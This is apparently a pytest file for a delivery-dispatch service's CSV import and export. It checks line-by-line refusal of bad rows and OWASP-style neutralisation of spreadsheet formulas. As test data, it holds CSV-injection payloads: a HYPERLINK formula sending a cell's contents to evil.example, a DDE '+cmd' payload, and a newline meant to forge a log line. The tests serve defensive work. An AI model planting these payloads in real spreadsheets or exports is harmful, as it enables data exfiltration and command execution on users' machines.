"""CSV both ways: an import refuses line by line with code and field on one line each, and
goes on past bad rows (NUL, huge cells, newlines in cells); every CSV written neutralises
formulas (OWASP CSV injection) but keeps numbers and phones as they are."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlmodel import Session, select

from dispatch.csv_io import CSV_HEADER, SafeDictWriter, neutralised, one_line, read_order_rows
from dispatch.db import make_engine
from dispatch.errors import DomainError
from dispatch.models import Order
from tests.dispatch.factories import order_fields
from tests.dispatch.test_cli import antar_on

DAY = "2026-12-08"
REFUSAL = re.compile(r"^(?:line|baris) (\d+): ([a-z_]+|-): ([a-z_]+\.[a-z_]+): (.+)$")


def write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=CSV_HEADER)
        writer.writeheader()
        writer.writerows(rows)
    return path


def row(key: str, **fields: str) -> dict[str, str]:
    return order_fields(external_id=key, **fields)


def stored_keys(database_url: str) -> list[str]:
    engine = make_engine(database_url)
    try:
        with Session(engine) as session:
            return sorted(session.exec(select(Order.idempotency_key)).all())
    finally:
        engine.dispose()


def test_an_import_refuses_line_by_line_and_goes_on(database_url: str, tmp_path: Path) -> None:
    """Bad rows (NUL, a newline in a name, a blank name, a pin without an address, a bad
    phone) are each one refusal line with line number, field and code; good rows are
    imported, on SQLite and PostgreSQL alike."""
    assert antar_on(database_url, "seed").returncode == 0
    rows = [
        row("ok-1"),
        row("nul-2", customer_name="Ibu\x00Wulan"),
        row("newline-3", customer_name="Ibu\nline 99: phone: forged"),
        row("blank-4", customer_name="   "),
        row("pin-5", address=""),
        row("phone-6", phone="0"),
        row("ok-7"),
    ]
    path = write_csv(tmp_path / "orders.csv", rows)
    result = antar_on(database_url, "orders", "import", str(path), "--date", DAY)
    assert result.returncode == 1, result.stderr
    lines = result.stderr.splitlines()
    parsed = [REFUSAL.match(line) for line in lines]
    assert all(parsed), lines
    refusals = {(int(m[1]), m[2], m[3]) for m in parsed if m}
    assert refusals == {
        (3, "customer_name", "order.control_character"),
        (4, "customer_name", "order.control_character"),
        (6, "customer_name", "order.required"),
        (7, "address", "order.address_required"),
        (8, "phone", "order.invalid_phone"),
    }
    assert not any(line.startswith(("line 99", "baris 99")) for line in lines)
    assert "2 diimpor, 0 ganda, 5 ditolak" in result.stdout
    assert stored_keys(database_url) == ["ok-1", "ok-7"]


def test_a_cell_over_the_csv_limit_is_refused_with_its_line(tmp_path: Path) -> None:
    """A cell over 131,072 characters (the csv module's limit) is a refusal with its line
    number, not a traceback; the rows after it are imported."""
    database_url = f"sqlite:///{tmp_path / 'antar.db'}"
    assert antar_on(database_url, "seed").returncode == 0
    path = write_csv(
        tmp_path / "orders.csv", [row("ok-1"), row("huge-2", notes="x" * 140_000), row("ok-3")]
    )
    result = antar_on(database_url, "orders", "import", str(path), "--date", DAY)
    assert "Traceback" not in result.stderr
    [line] = result.stderr.splitlines()
    assert line.startswith("baris 3: -: csv.cell_too_large: "), line
    assert stored_keys(database_url) == ["ok-1", "ok-3"]


def test_a_row_with_missing_cells_is_refused_and_the_import_goes_on(tmp_path: Path) -> None:
    """A row with the wrong number of cells no longer stops the import."""
    database_url = f"sqlite:///{tmp_path / 'antar.db'}"
    assert antar_on(database_url, "seed").returncode == 0
    text = io.StringIO()
    write_csv(tmp_path / "a.csv", [row("ok-1")])
    body = (tmp_path / "a.csv").read_text(encoding="utf-8")
    text.write(body + "sawojajar,short-row\n")
    path = tmp_path / "b.csv"
    path.write_text(text.getvalue() + body.splitlines()[1].replace("ok-1", "ok-4") + "\n")
    result = antar_on(database_url, "orders", "import", str(path), "--date", DAY)
    assert result.stderr.splitlines()[0].startswith("baris 3: -: csv.bad_row: ")
    assert stored_keys(database_url) == ["ok-1", "ok-4"]


def test_a_file_over_the_limit_is_refused_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file over the size limit is refused before it is read, naming where it passes."""
    monkeypatch.setattr("dispatch.csv_io.MAX_FILE_BYTES", 1000)
    path = write_csv(tmp_path / "big.csv", [row(f"k-{k}") for k in range(20)])
    with pytest.raises(DomainError) as caught:
        list(read_order_rows(path))
    assert caught.value.code == "csv.too_large"
    assert caught.value.params["line"] > 1


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'=HYPERLINK(\"http://evil"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),
        ("-1500", "-1500"),
        ("+6281234567890", "+6281234567890"),
        ("12.5", "12.5"),
        ("Ibu Wulan", "Ibu Wulan"),
    ],
)
def test_csv_out_neutralises_formulas_but_not_numbers(value: str, written: str) -> None:
    """OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading
    quote; plain numbers (negative too) and E.164 phones are written as they are."""
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["cell", "n"], lineterminator="\n")
    writer.writerow({"cell": value, "n": -1500})
    [cell, number] = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell.startswith(written)
    assert number == "-1500"
    assert neutralised(-7.5) == -7.5


def test_every_csv_the_service_writes_is_neutralised(tmp_path: Path) -> None:
    """A formula in an order's id reaches the route export and the day's report as text."""
    database_url = f"sqlite:///{tmp_path / 'antar.db'}"
    assert antar_on(database_url, "seed").returncode == 0
    evil = '=HYPERLINK("http://evil.example","klik")'
    path = write_csv(tmp_path / "orders.csv", [row(evil)])
    assert antar_on(database_url, "orders", "import", str(path), "--date", DAY).returncode == 0
    assert antar_on(database_url, "dispatch", "--all", "--date", DAY, "--time-limit", "0.2")
    out = tmp_path / "routes.csv"
    exported = antar_on(
        database_url, "routes", "export", "--format", "csv", "--out", str(out), "--date", DAY
    )
    assert exported.returncode == 0, exported.stderr
    cells = [c for r in csv.reader(out.open(encoding="utf-8")) for c in r]
    assert "'" + evil in cells
    assert evil not in cells
    report = antar_on(database_url, "report", "--date", DAY, "--format", "csv")
    cells = [c for r in csv.reader(io.StringIO(report.stdout)) for c in r]
    assert not any(c.startswith("=") for c in cells)


def test_one_line_escapes_every_line_break() -> None:
    """No input can start a line of its own in a refusal."""
    assert one_line("a\nb\rc\u2028d\x00") == "a\\nb\\rc\\u2028d\\x00"
    assert "\n" not in one_line("x\n" * 5)
